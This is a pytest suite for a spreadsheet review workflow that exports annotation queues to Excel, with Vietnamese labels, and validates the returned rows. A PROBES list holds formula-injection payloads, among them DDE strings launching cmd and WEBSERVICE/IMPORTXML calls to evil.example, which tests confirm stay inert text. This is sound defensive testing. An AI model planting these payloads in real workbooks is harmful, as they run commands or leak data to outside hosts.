"""Workbooks for review: what goes out comes back checked row by row, and is applied once."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from corpus_samples import article, judged
from review_samples import MORNING, filled_store

from corpus.codebook.taxonomy import load_taxonomy
from corpus.errors import BadInput
from corpus.label import Snapshot
from corpus.people.judgements import Draft, Judgements
from corpus.people.queues import UNCERTAIN, Item, Queues
from corpus.store import Store
from flows.reports.sheets import apply, export_queue, plan_of
from review.workbook import sheet as said
from review.workbook.checking import Plan
from review.workbook.reading import read_workbook
from review.workbook.sheet import Export, Row, export_of, sum_of, told
from review.workbook.writing import write_workbook

TAXONOMY = load_taxonomy()
AREAS = said.area_heads(TAXONOMY)
PROBES = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/","x")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|'/C notepad'!A1",
    "-cmd|'/C notepad'!A1",
    "@cmd|'/C notepad'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "{=1+1}",
)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with twelve passages waiting."""
    path = tmp_path_factory.mktemp("made") / "store.db"
    with Store(path) as store:
        filled_store(store, 3)
    return path


class Desk:
    """A store, a workbook that went out of it, and what comes back."""

    def __init__(self, store: Store, path: Path) -> None:
        self.store, self.path = store, path
        self.export, self.rows = export_queue(
            store, TAXONOMY, queue=UNCERTAIN, limit=12, person="lan", now=MORNING, names={"dong-khoi": "Báo Đồng Khởi"}
        )
        write_workbook(path, self.rows, self.export, TAXONOMY)

    def fill(self, **cells: object) -> None:
        """Fill cells of lines: ``fill(line2={"Khâu": "kết quả"})``."""
        book = openpyxl.load_workbook(self.path)
        page = book[said.REVIEW]
        heads = [cell.value for cell in page[1]]
        for line, values in cells.items():
            assert isinstance(values, dict)
            for name, value in values.items():
                page.cell(int(line.removeprefix("line")), heads.index(name) + 1).value = value
        book.save(self.path)

    def plan(self, person: str = "lan") -> Plan:
        """What would be applied."""
        return plan_of(self.store, read_workbook(self.path, TAXONOMY), TAXONOMY, person=person)

    def reasons(self) -> dict[int, str]:
        """Why lines are refused."""
        return {each.line: each.reason for each in self.plan().refused}


@pytest.fixture
def desk(made: Path, tmp_path: Path) -> Iterator[Desk]:
    """A desk of its own."""
    shutil.copy(made, tmp_path / "store.db")
    with Store(tmp_path / "store.db") as store:
        yield Desk(store, tmp_path / "duyet.xlsx")


YES3 = {AREAS["3"]: "có", said.REST: "không", said.STAGE: "kết quả", said.MODALITY: "đã làm", said.NOTE: "rõ"}


def test_what_was_filled_in_becomes_one_judgement_in_the_queue_of_its_export(desk: Desk) -> None:
    desk.fill(line2=YES3)
    done = apply(desk.store, desk.plan(), now=MORNING)
    event = Judgements(desk.store.engine).events()[-1]
    assert (done.kept, done.refused, event.person) == (1, (), "lan")
    assert event.verdicts == {code: "yes" if code == "3" else "no" for code in TAXONOMY.codes}
    assert (event.stage, event.modality, event.note) == ("ket_qua", "reported", "rõ")
    assert event.shown_because == f"bảng tính {desk.export.id}"
    assert Queues(desk.store.engine).progress_of(UNCERTAIN).done == 1


def test_nothing_is_kept_by_looking(desk: Desk) -> None:
    desk.fill(line2=YES3)
    assert len(desk.plan().changes) == 1
    assert Judgements(desk.store.engine).events() == []


def test_the_same_file_twice_applies_nothing_twice(desk: Desk) -> None:
    desk.fill(line2=YES3, line3={AREAS["1"]: "chưa chắc"})
    assert apply(desk.store, desk.plan(), now=MORNING).kept == 2
    again = desk.plan()
    assert (again.changes, again.refused, again.already) == ((), (), 2)
    assert apply(desk.store, again, now=MORNING).kept == 0


def test_a_plan_made_before_the_first_is_applied_applies_nothing_after_it(desk: Desk) -> None:
    desk.fill(line2=YES3)
    first, second = desk.plan(), desk.plan()
    assert apply(desk.store, first, now=MORNING).kept == 1
    done = apply(desk.store, second, now=MORNING)
    assert (done.kept, len(done.refused)) == (0, 1)


def test_areas_left_empty_are_not_asked(desk: Desk) -> None:
    desk.fill(line2={AREAS["5"]: "Có "})
    assert desk.plan().changes[0].draft.verdicts == {"5": "yes"}


def test_rows_left_empty_are_passed_over(desk: Desk) -> None:
    desk.fill(line2=YES3)
    assert desk.plan().empty == len(desk.rows) - 1


def test_ones_own_verdict_from_before_is_edited_and_shown_as_such(made: Path, tmp_path: Path) -> None:
    shutil.copy(made, tmp_path / "store.db")
    with Store(tmp_path / "store.db") as store:
        passage = Queues(store.engine).waiting(UNCERTAIN, "lan", now=MORNING, limit=1)[0]
        before = Judgements(store.engine).record(Draft(passage, "lan", {"3": "no"}, queue="x"), now=MORNING)
        desk = Desk(store, tmp_path / "duyet.xlsx")
        desk.fill(line2={AREAS["3"]: "có"})
        change = desk.plan().changes[0]
        assert change.draft.supersedes == before.id
        assert change.verdicts == (("3", "no", "yes"),)


@pytest.mark.parametrize(
    ("cells", "reason"),
    [
        ({said.TEXT: "Lời khác."}, "lời của đoạn"),
        ({said.TITLE: "Tựa khác"}, "tổng kiểm"),
        ({said.SUM: "0000"}, "tổng kiểm"),
        ({said.REVISION: "r9"}, "tổng kiểm"),
        ({said.LAST: "e9"}, "tổng kiểm"),
        ({said.PASSAGE: "khong-co"}, "không có đoạn"),
        ({said.PASSAGE: None}, "không có mã đoạn"),
        ({AREAS["3"]: "phải"}, "chỉ nhận có, không, chưa chắc"),
        ({said.STAGE: "xong"}, "chỉ nhận"),
        ({said.MODALITY: "xong"}, "chỉ nhận"),
        ({said.REST: "có"}, "chỉ nhận không, chưa chắc"),
        ({said.NOTE: "=1+1"}, "công thức"),
        ({said.NOTE: "x" * 2001}, "ghi chú dài"),
        ({AREAS["3"]: None, said.REST: None}, "chưa có kết luận"),
    ],
)
def test_a_row_that_cannot_be_taken_is_refused_by_line_and_reason(
    desk: Desk, cells: dict[str, Any], reason: str
) -> None:
    desk.fill(line3={**YES3, **cells}, line4=YES3)
    found = desk.plan()
    assert [each.line for each in found.refused] == [3]
    assert reason in found.refused[0].reason
    assert [each.line for each in found.changes] == [4]


def test_a_passage_that_stands_twice_is_taken_once(desk: Desk) -> None:
    locked = {**desk.rows[0].locked(), said.SUM: sum_of(desk.export.id, desk.rows[0].locked())}
    desk.fill(line2=YES3, line3={**YES3, **locked})
    assert "dòng 2" in desk.reasons()[3]


def test_a_passage_that_somebody_judged_since_is_stale(desk: Desk) -> None:
    desk.fill(line2=YES3)
    Judgements(desk.store.engine).record(Draft(desk.rows[0].passage, "hoa", {"1": "yes"}, queue="x"), now=MORNING)
    assert "đã có người duyệt" in desk.reasons()[2] and "hoa" in desk.reasons()[2]


def test_a_document_that_was_revised_since_is_stale(tmp_path: Path) -> None:
    with Store(tmp_path / "store.db") as store:
        first = article(1, "Huyện ủy Ba Tri ban hành kế hoạch.")
        store.put_documents([(first, None)])
        store.put_judged([judged(first)])
        Queues(store.engine).fill(UNCERTAIN, [Item(judged(first).passages[0].id, 0.0)], now=MORNING)  # fmt: skip
        desk = Desk(store, tmp_path / "duyet.xlsx")
        desk.fill(line2=YES3)
        store.put_documents([(article(1, "Huyện ủy Ba Tri ban hành kế hoạch mới."), None)])
        assert "bản mới hơn" in desk.reasons()[2]


def test_a_row_of_another_export_does_not_fit(desk: Desk) -> None:
    other = replace(desk.export, id="0123456789")
    write_workbook(desk.path, [desk.rows[0]], other, TAXONOMY)
    book = openpyxl.load_workbook(desk.path)
    book[said.ABOUT].cell(1, 2).value = desk.export.id
    book.save(desk.path)
    desk.fill(line2=YES3)
    assert "tổng kiểm" in desk.reasons()[2]


def test_sorting_and_moving_columns_does_no_harm(desk: Desk) -> None:
    desk.fill(line2=YES3)
    book = openpyxl.load_workbook(desk.path)
    page = book[said.REVIEW]
    lines = [[cell.value for cell in line] for line in page.iter_rows()]
    turned = [line[::-1] for line in (lines[0], *lines[:0:-1])]
    page.delete_rows(1, page.max_row)
    for line in turned:
        page.append(line)
    book.save(desk.path)
    found = desk.plan()
    assert (found.refused, [each.draft.passage for each in found.changes]) == ((), [desk.rows[0].passage])


def _without(name: str) -> Callable[[Any], None]:
    def cut(book: Any) -> None:
        del book[name]

    return cut


def _other(line: int, value: str) -> Callable[[Any], None]:
    def write(book: Any) -> None:
        book[said.ABOUT].cell(line, 2).value = value

    return write


def _column_gone(book: Any) -> None:
    book[said.REVIEW].delete_cols(3)


@pytest.mark.parametrize(
    "spoil",
    [_without(said.ABOUT), _without(said.REVIEW), _other(5, "x 1"), _other(6, "9"), _other(1, ""), _column_gone],
)
def test_a_workbook_that_is_not_ours_is_refused_whole(desk: Desk, spoil: Callable[[Any], None]) -> None:
    book = openpyxl.load_workbook(desk.path)
    spoil(book)
    book.save(desk.path)
    with pytest.raises(BadInput, match=r"duyet\.xlsx"):
        read_workbook(desk.path, TAXONOMY)


@pytest.mark.parametrize("body", [b"", b"khong phai xlsx", b"PK\x03\x04hong"])
def test_a_damaged_file_is_refused(tmp_path: Path, body: bytes) -> None:
    path = tmp_path / "hong.xlsx"
    path.write_bytes(body)
    with pytest.raises(BadInput, match="hỏng"):
        read_workbook(path, TAXONOMY)


def probed(tmp_path: Path) -> tuple[Path, list[Row], Export]:
    """A workbook whose every text begins like a formula."""
    assert len(PROBES) == 19
    rows = [
        Row(f"p{n}", Snapshot("d", "r1", probe, probe, probe, probe, probe, "2026-10-01"), probe, "")
        for n, probe in enumerate(PROBES)
    ]
    export = export_of(made="2026-11-24", queue="=1+1", taxonomy=TAXONOMY, passages=[row.passage for row in rows])
    path = tmp_path / "do.xlsx"
    write_workbook(path, rows, export, TAXONOMY)
    return path, rows, export


def test_nineteen_formula_probes_stay_text(tmp_path: Path) -> None:
    path, rows, _ = probed(tmp_path)
    book = openpyxl.load_workbook(path)
    kinds = {cell.data_type for page in book for line in page.iter_rows() for cell in line}
    assert kinds <= {"s", "n"}
    assert not [cell for page in book for line in page.iter_rows() for cell in line if cell.hyperlink]
    heads = [cell.value for cell in book[said.REVIEW][1]]
    column = heads.index(said.TEXT) + 1
    texts = [told(book[said.REVIEW].cell(line, column).value) for line in range(2, 2 + len(rows))]
    assert texts == [told(probe) for probe in PROBES]


def test_only_the_cells_to_fill_in_are_unlocked_and_choices_are_lists(desk: Desk) -> None:
    page = openpyxl.load_workbook(desk.path)[said.REVIEW]
    heads = [cell.value for cell in page[1]]
    free = {heads[cell.column - 1] for cell in page[2] if not cell.protection.locked}
    assert free == set(heads) - set(said.LOCKED) and page.protection.sheet
    lists = [each.formula1 for each in page.data_validations.dataValidation if each.type == "list"]
    assert len(lists) == len(TAXONOMY.codes) + 3 and '"có,không,chưa chắc"' in lists
    assert page.freeze_panes == "C2" and page.auto_filter.ref


def test_the_guide_holds_every_area_and_rule(desk: Desk) -> None:
    page = openpyxl.load_workbook(desk.path)[said.GUIDE]
    words = " ".join(str(cell.value) for line in page.iter_rows() for cell in line if cell.value)
    assert all(area.name in words for area in TAXONOMY.areas)
    assert all(f"Quy tắc {rule.number}" in words for rule in TAXONOMY.boundary_rules)


@pytest.mark.parametrize("queue", ["khong-co", "audit 2026-10"])
def test_a_queue_that_cannot_go_out_is_refused(desk: Desk, queue: str) -> None:
    with pytest.raises(BadInput, match=queue):
        export_queue(desk.store, TAXONOMY, queue=queue, limit=1, person="lan", now=MORNING, names={})


def test_a_file_of_another_kind_is_refused_before_it_is_written(desk: Desk, tmp_path: Path) -> None:
    for path in (tmp_path / "a.csv", tmp_path / "khong-co" / "a.xlsx"):
        with pytest.raises(BadInput):
            write_workbook(path, desk.rows, desk.export, TAXONOMY)
    assert not list(tmp_path.glob("*.part"))


@pytest.mark.slow
def test_libreoffice_gives_back_what_went_out(desk: Desk, tmp_path: Path) -> None:
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    desk.fill(**{f"line{line}": YES3 for line in range(2, 2 + len(desk.rows))})
    nasty, _, _ = probed(tmp_path)
    before = [read_workbook(path, TAXONOMY) for path in (desk.path, nasty)]
    there = tmp_path / "lo"
    to = ["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(there), str(desk.path), str(nasty)]
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
    subprocess.run(["soffice", profile, "--headless", *to], check=True, capture_output=True, timeout=120)
    after = [read_workbook(there / path.name, TAXONOMY) for path in (desk.path, nasty)]
    assert after == before and len(after[0].filled) == len(desk.rows)
    page = openpyxl.load_workbook(there / nasty.name)[said.REVIEW]
    heads = [cell.value for cell in page[1]]
    back = [{name: told(line[heads.index(name)].value) for name in said.LOCKED} for line in page.iter_rows(min_row=2)]
    assert all(sum_of(before[1].export.id, line) == line[said.SUM] for line in back) and len(back) == len(PROBES)
    assert {cell.data_type for line in page.iter_rows() for cell in line} <= {"s", "n"}
